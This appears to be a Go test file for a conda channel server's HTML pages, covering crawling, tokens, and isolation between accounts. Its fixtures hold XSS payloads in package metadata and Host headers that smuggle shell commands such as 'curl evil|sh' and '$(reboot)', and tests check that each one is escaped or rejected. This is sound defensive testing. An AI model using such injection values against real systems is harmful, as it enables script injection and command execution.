package serve

import (
	"fmt"
	"html"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// shown is a small mirror with all that pages tell apart: two accounts, a removed file, dependencies in and out of the
// channel, odd names, and records that somebody wrote to harm who reads them.
func shown(t testing.TB) string {
	record := func(name, version, build, more string) string {
		return fmt.Sprintf(`{"name":%q,"version":%q,"build":%q,"build_number":1,"size":1536,"sha256":%q,"md5":%q%s}`,
			name, version, build, strings.Repeat("ab", 32), strings.Repeat("cd", 16), more)
	}
	index := `{"info":{"subdir":"linux-64"},"packages":{
"numpy-1.9-py27_0.tar.bz2":` + record("numpy", "1.9", "py27_0", `,"license":"BSD","license_family":"BSD","depends":["python 2.7*","_openmp_mutex >=4","absent"]`) + `,
"numpy-1.10-py27_0.tar.bz2":` + record("numpy", "1.10", "py27_0", `,"timestamp":1470000000000,"depends":["python"],"constrains":["scipy <9"]`) + `,
"evil-1!2+x-0.tar.bz2":` + record("evil", "1!2+x", "0", `,"license":"<script>alert(1)</script>","license_family":"\"><img src=x onerror=alert(1)>","depends":["javascript:alert(1)","<b>bold</b> >1","numpy' onmouseover='alert(1)"]`) + `
},"packages.conda":{
"_openmp_mutex-4-0.conda":` + record("_openmp_mutex", "4", "0", `,"depends":[]`) + `,
"python-2.7.12-1.conda":` + record("python", "2.7.12", "1", `,"depends":["evil"]`) + `
},"removed":["numpy-1.8-py27_0.tar.bz2"]}`
	dir := tree(t, map[string]string{
		"free/linux-64/repodata.json":  index,
		"free/linux-64/repodata.json2": "not the index",
		"free/noarch/repodata.json":    `{"packages":{},"packages.conda":{"pure-1-0.conda":` + record("pure", "1", "0", `,"depends":["numpy"]`) + `,"numpy-1.11-0.conda":` + record("numpy", "1.11", "0", "") + `}}`,
		"main/linux-64/repodata.json":  `{"packages":{}}`,
	})
	for _, name := range []string{"numpy-1.9-py27_0.tar.bz2", "numpy-1.10-py27_0.tar.bz2", "evil-1!2+x-0.tar.bz2", "_openmp_mutex-4-0.conda", "python-2.7.12-1.conda"} {
		put(t, filepath.Join(dir, "free/linux-64", name), "package")
	}
	put(t, dir+"/free/noarch/pure-1-0.conda", "package")
	put(t, dir+"/free/noarch/numpy-1.11-0.conda", "package")
	return dir
}

// browse asks as a browser does until the index has been read.
func browse(t testing.TB, url string) (have got) {
	t.Helper()
	until(t, url+" is read", func() bool {
		have = ask(t, http.DefaultClient, "GET", url, "Accept", "text/html,*/*")
		return have.header.Get("Refresh") == ""
	})
	return have
}

var (
	link   = regexp.MustCompile(`(?:href|src|action)="([^"]*)"`)
	script = regexp.MustCompile(`(?i)<script[^>]*>[^<]|<img|<b>|\son[a-z]+=["']|javascript:alert\(1\)"`)
)

// Every link of every page leads somewhere, and below the token, which no page prints.
func TestCrawl(t *testing.T) {
	dir := shown(t)
	token, line, err := NewToken("free")
	if err != nil {
		t.Fatal(err)
	}
	file := t.TempDir() + "/tokens"
	put(t, file, line+"\n")
	extras := tree(t, map[string]string{"Miniconda.sh": "#!/bin/sh"})
	for _, o := range []Options{{Dir: dir, Extras: extras, Now: later}, {Dir: dir, Tokens: file, Now: later}} {
		s := start(t, o, 0)
		top := s.url + "/"
		if o.Tokens != "" {
			top += "t/" + token + "/"
		}
		asked := crawl(t, top)
		for _, want := range []string{"", "free/", "free/-/numpy", "free/-/numpy/1.10", "free/-/numpy/1.8", "free/-/_openmp_mutex", "free/-/evil/1%212+x", "free/linux-64/", "free/linux-64/evil-1%212+x-0.tar.bz2", "free/linux-64/numpy-1.9-py27_0.tar.bz2"} {
			if !asked[top+want] {
				t.Errorf("no page leads to %s", want)
			}
		}
		if o.Extras != "" && !asked[top+"static/extras/Miniconda.sh"] {
			t.Error("no page leads to the installers")
		}
		if asked[top+"free/linux-64/numpy-1.8-py27_0.tar.bz2"] || o.Tokens != "" && asked[top+"main/"] {
			t.Error("a page leads to what is not to be had")
		}
	}
}

// crawl asks for all that top leads to, and returns that.
func crawl(t *testing.T, top string) map[string]bool {
	asked, queue := map[string]bool{top: true}, []string{top}
	for len(queue) > 0 {
		at := queue[0]
		queue = queue[1:]
		have := browse(t, at)
		if have.code != 200 || !strings.HasPrefix(at, top) {
			t.Errorf("%s: got %d", at, have.code)
			continue
		}
		if !strings.HasPrefix(have.header.Get("Content-Type"), "text/html") {
			continue
		}
		if strings.Contains(have.body, tokenPrefix) {
			t.Errorf("%s prints a token", at)
		}
		if found := script.FindString(have.body); found != "" {
			t.Errorf("%s has %q, which a record brought", at, found)
		}
		here, err := url.Parse(at)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range link.FindAllStringSubmatch(have.body, -1) {
			to, err := here.Parse(html.UnescapeString(m[1]))
			if err != nil {
				t.Errorf("%s: %v", at, err)
				continue
			}
			if to.Fragment = ""; to.Scheme == "data" || asked[to.String()] {
				continue
			}
			asked[to.String()] = true
			queue = append(queue, to.String())
		}
	}
	return asked
}

// What a reader sees of a channel.
func TestPages(t *testing.T) {
	dir := shown(t)
	s := start(t, Options{Dir: dir, Now: later}, 0)
	for _, c := range []struct {
		path string
		code int
		has  []string
		not  []string
	}{
		{"/", 200, []string{`href="./free/"`, `href="./main/"`}, nil},
		{"/free/", 200, []string{`id="q"`, `id="packages"`, `./../free/-/numpy"`, "conda", s.url + "/free"}, nil},
		{"/free/?q=num", 200, []string{`/-/numpy"`, `value="num"`}, []string{`/-/python"`}},
		{"/free/?q=nmupy", 200, []string{`/-/numpy"`, "did you mean"}, []string{`/-/python"`}},
		{"/free/?q=%3Cb%3E", 200, []string{`value="&lt;b&gt;"`}, nil},
		{"/free/?from=99", 200, []string{`rel="prev"`}, nil},
		{"/free/-/numpy", 200, []string{"1.10", `/-/numpy/1.9"`, `removed`, `/-/pure"`, "conda install", "mamba install", "pixi workspace channel add " + s.url + "/free"}, nil},
		{"/free/-/numpy?platform=noarch", 200, []string{`platform=linux-64`, `/-/numpy/1.11"`}, []string{`/-/numpy/1.9"`}},
		{"/free/-/numpy/1.10", 200, []string{"1.5", `title="1536 bytes"`, `datetime="2016-07-31T21:20:00Z"`, "scipy &lt;9", strings.Repeat("ab", 32), `/-/python"`, "numpy=1.10"}, nil},
		{"/free/-/numpy/1.9", 200, []string{`/-/_openmp_mutex"`, "BSD"}, []string{`/-/absent"`}},
		{"/free/-/numpy/1.8", 200, []string{"removed"}, []string{"conda install"}},
		{"/free/-/evil/1%212+x", 200, []string{"&lt;script&gt;", `&#39;evil=1!2&#43;x&#39;`}, nil},
		{"/free/-/nmupy", 404, []string{`/-/numpy"`}, nil},
		{"/free/-/numpy/7", 404, []string{`/-/numpy/1.11"`}, nil},
		{"/free/-/numpy/1.10/x", 404, nil, nil},
		{"/free/-/", 404, nil, nil},
		{"/none/", 404, []string{"<h1>", `href="./../"`}, nil},
		{"/none/x.conda", 404, []string{"<h1>"}, nil},
		{"/none/-/numpy", 404, []string{"<h1>"}, nil},
		{"/free/linux-64/", 200, []string{`href="./python-2.7.12-1.conda"`, `title="7 bytes"`}, []string{".part"}},
	} {
		have := browse(t, s.url+c.path)
		if have.code != c.code || !strings.HasPrefix(have.body, "<!DOCTYPE html>") || have.header.Get("Content-Security-Policy") != pagePolicy {
			t.Errorf("%s: got %d %v", c.path, have.code, have.header)
		}
		for _, want := range c.has {
			if !strings.Contains(have.body, want) {
				t.Errorf("%s: has no %s\n%s", c.path, want, have.body)
			}
		}
		for _, text := range c.not {
			if strings.Contains(have.body, text) {
				t.Errorf("%s: has %s", c.path, text)
			}
		}
		head := ask(t, http.DefaultClient, "HEAD", s.url+c.path, "Accept", "text/html")
		if head.code != c.code || head.body != "" || head.header.Get("Content-Length") != have.header.Get("Content-Length") {
			t.Errorf("HEAD %s: got %d %v", c.path, head.code, head.header)
		}
		if program := ask(t, http.DefaultClient, "GET", s.url+c.path); c.code == 404 && c.path[:5] == "/none" && program.body != "not found\n" {
			t.Errorf("%s: a program gets %q", c.path, program.body)
		}
	}
	if len(s.shelf.accounts) != 2 {
		t.Errorf("who asks for what is not there makes the server remember it: %v", s.shelf.accounts)
	}
}

// What pages refer to can be kept, and is asked for only if it changed.
func TestAssets(t *testing.T) {
	s := start(t, Options{Dir: shown(t), Now: later}, 0)
	for name, kind := range map[string]string{"style.css": "text/css; charset=utf-8", "page.js": "text/javascript; charset=utf-8"} {
		have := ask(t, http.DefaultClient, "GET", s.url+"/-/"+name)
		tag := have.header.Get("ETag")
		if have.code != 200 || have.header.Get("Content-Type") != kind || tag == "" {
			t.Errorf("%s: got %d %v", name, have.code, have.header)
		}
		if again := ask(t, http.DefaultClient, "GET", s.url+"/-/"+name, "If-None-Match", tag); again.code != 304 {
			t.Errorf("%s: got %d", name, again.code)
		}
	}
	if have := ask(t, http.DefaultClient, "GET", s.url+"/-/pages.html"); have.code != 404 {
		t.Errorf("got %d", have.code)
	}
}

// The address in commands is the one that the reader used, if it is one.
func TestAddress(t *testing.T) {
	s := start(t, Options{Dir: shown(t), Now: later}, 0)
	browse(t, s.url+"/free/")
	for _, c := range []struct{ header, want string }{
		{"Host: conda.example:8080", "http://conda.example:8080/free"}, {"Host: [::1]:80", "http://[::1]:80/free"},
		{"Host: conda.example\r\nX-Forwarded-Proto: https", "https://conda.example/free"}, {"Host: conda.example\r\nX-Forwarded-Proto: javascript", "http://conda.example/free"},
		{`Host: x";curl evil|sh`, "http://HOST/free"}, {"Host: x$(reboot)", "http://HOST/free"},
	} {
		have := raw(t, s.addr, "GET /free/-/numpy HTTP/1.1\r\n"+c.header+"\r\nConnection: close\r\n\r\n")
		if have.code != 400 && !strings.Contains(have.body, "-c "+c.want+" numpy") {
			t.Errorf("%s: got %d %s", c.header, have.code, have.body)
		}
	}
}

// A page shows what was published since, without a restart; a damaged index leaves the one before.
func TestPublished(t *testing.T) {
	var ahead atomic.Int64
	dir := shown(t)
	s := start(t, Options{Dir: dir, Now: func() time.Time { return later().Add(time.Duration(ahead.Load())) }}, 0)
	browse(t, s.url+"/free/")
	index := dir + "/free/noarch/repodata.json"
	has := func(name string) bool {
		ahead.Add(int64(time.Minute))
		return browse(t, s.url+"/free/-/"+name).code == 200
	}
	put(t, index, `{"packages":{"fresh-1-0.tar.bz2":{"name":"fresh","version":"1","build":"0","build_number":0,"depends":[]}}}`)
	until(t, "the new package is shown", func() bool { return has("fresh") })
	if has("pure") {
		t.Error("what is gone is shown")
	}
	put(t, index, `{"packages":`)
	until(t, "the damage is told", func() bool { return has("fresh") && strings.Contains(s.told.String(), "page of free: noarch") })
}

// While an index is read for the first time pages say so and come again; while it is read once more the one before serves.
func TestReading(t *testing.T) {
	var ahead atomic.Int64
	dir := shown(t)
	s := start(t, Options{Dir: dir, Now: func() time.Time { return later().Add(time.Duration(ahead.Load())) }}, 0)
	get := func(path string) got { return ask(t, http.DefaultClient, "GET", s.url+path) }
	s.shelf.reading <- struct{}{} // somebody else's turn
	for _, path := range []string{"/", "/free/", "/free/-/numpy", "/free/-/none"} {
		if have := get(path); have.code != 200 || have.header.Get("Refresh") == "" || !strings.Contains(have.body, "being read") {
			t.Errorf("%s: got %d %v", path, have.code, have.header)
		}
	}
	if have := get("/free/linux-64/python-2.7.12-1.conda"); have.body != "package" {
		t.Errorf("files wait: got %q", have.body)
	}
	<-s.shelf.reading
	browse(t, s.url+"/free/")
	s.shelf.reading <- struct{}{}
	put(t, dir+"/free/noarch/repodata.json", "{}")
	ahead.Add(int64(time.Minute))
	if have := get("/free/-/pure"); have.code != 200 || have.header.Get("Refresh") != "" {
		t.Errorf("the one before: got %d %v", have.code, have.header)
	}
	<-s.shelf.reading
	until(t, "the new one is shown", func() bool { return browse(t, s.url+"/free/-/pure").code == 404 })
}

// What ends while an index is read leaves no file open.
func TestEndWhileReading(t *testing.T) {
	dir := shown(t)
	s := start(t, Options{Dir: dir, Now: later}, 0)
	browse(t, s.url+"/free/")
	s.shelf.reading <- struct{}{}
	ask(t, http.DefaultClient, "GET", s.url+"/main/")
	time.AfterFunc(20*time.Millisecond, func() { <-s.shelf.reading })
	s.end()
	s.Close()
	fds, err := filepath.Glob("/proc/self/fd/*")
	if err != nil {
		t.Fatal(err)
	}
	for _, fd := range fds {
		if name, _ := os.Readlink(fd); strings.HasPrefix(name, dir) {
			t.Errorf("%s is open", name)
		}
	}
}

// Files of a channel come before pages, whatever they are called.
func TestNamesOfPages(t *testing.T) {
	dir := shown(t)
	for _, name := range []string{"-/linux-64/repodata.json", "free/-/repodata.json", "free/-/numpy"} {
		put(t, filepath.Join(dir, name), `{"packages":{}}`)
	}
	s := start(t, Options{Dir: dir, Now: later}, 0)
	for _, path := range []string{"/-/linux-64/repodata.json", "/free/-/repodata.json", "/free/-/numpy"} {
		if have := ask(t, http.DefaultClient, "GET", s.url+path); have.code != 200 || have.body != `{"packages":{}}` {
			t.Errorf("%s: got %d %q", path, have.code, have.body)
		}
	}
	if have := browse(t, s.url+"/-/"); have.code != 200 || !strings.Contains(have.body, `id="packages"`) {
		t.Errorf("got %d", have.code)
	}
}

// Where tokens are wanted no link leads from one account to another.
func TestLinksBetweenAccounts(t *testing.T) {
	dir := channel(t)
	put(t, dir+"/main/win-64/secret-1-0.conda", "SECRET")
	put(t, dir+"/free/linux-64/own-1-0.conda", "own")
	put(t, dir+"/plain/readme", "no account of anybody")
	for name, to := range map[string]string{"alias": "main", "free/win-64": "../main/win-64", "free/linux-64/s-1-0.conda": "../../main/win-64/secret-1-0.conda", "free/osx-64": "linux-64", "free/linux-64/l-1-0.conda": "own-1-0.conda", "free/plain": "../plain"} {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	var tokens, lines string
	for _, account := range []string{"free", "alias"} {
		token, line, err := NewToken(account)
		if err != nil {
			t.Fatal(err)
		}
		tokens, lines = tokens+" "+token, lines+line+"\n"
	}
	file := t.TempDir() + "/tokens"
	put(t, file, lines)
	free, alias := strings.Fields(tokens)[0], strings.Fields(tokens)[1]
	s, loose := start(t, Options{Dir: dir, Tokens: file, Now: later}, 0), start(t, Options{Dir: dir, Now: later}, 0)
	for _, c := range []struct {
		token, path string
		code, loose int
	}{
		{free, "/free/win-64/secret-1-0.conda", 404, 200}, {free, "/free/win-64/repodata.json", 404, 200}, {free, "/free/win-64/", 404, 200}, {free, "/free/linux-64/s-1-0.conda", 404, 200}, {free, "/free/plain/readme", 404, 200},
		{alias, "/alias/win-64/secret-1-0.conda", 404, 200}, {alias, "/alias/", 404, 200}, {alias, "/alias/noarch/repodata.json", 404, 200},
		{free, "/free/osx-64/own-1-0.conda", 200, 200}, {free, "/free/linux-64/l-1-0.conda", 200, 200}, {free, "/free/noarch/repodata.json", 200, 200}, {free, "/free/none", 404, 404}, {free, "/free/linux-64/own-1-0.conda/x", 404, 404},
	} {
		if have := ask(t, http.DefaultClient, "GET", s.url+"/t/"+c.token+c.path); have.code != c.code || strings.Contains(have.body, "SECRET") {
			t.Errorf("%s: got %d %q, want %d", c.path, have.code, have.body, c.code)
		}
		if have := ask(t, http.DefaultClient, "GET", loose.url+c.path); have.code != c.loose {
			t.Errorf("%s without tokens: got %d, want %d", c.path, have.code, c.loose)
		}
	}
	if body := browse(t, s.url+"/t/"+free+"/free/").body; strings.Contains(body, "win-64") || !strings.Contains(body, "osx-64") {
		t.Errorf("the page shows what lies elsewhere: %s", body)
	}
	if !strings.Contains(s.told.String(), "the account alias is a link") {
		t.Errorf("told %q", s.told.String())
	}
}
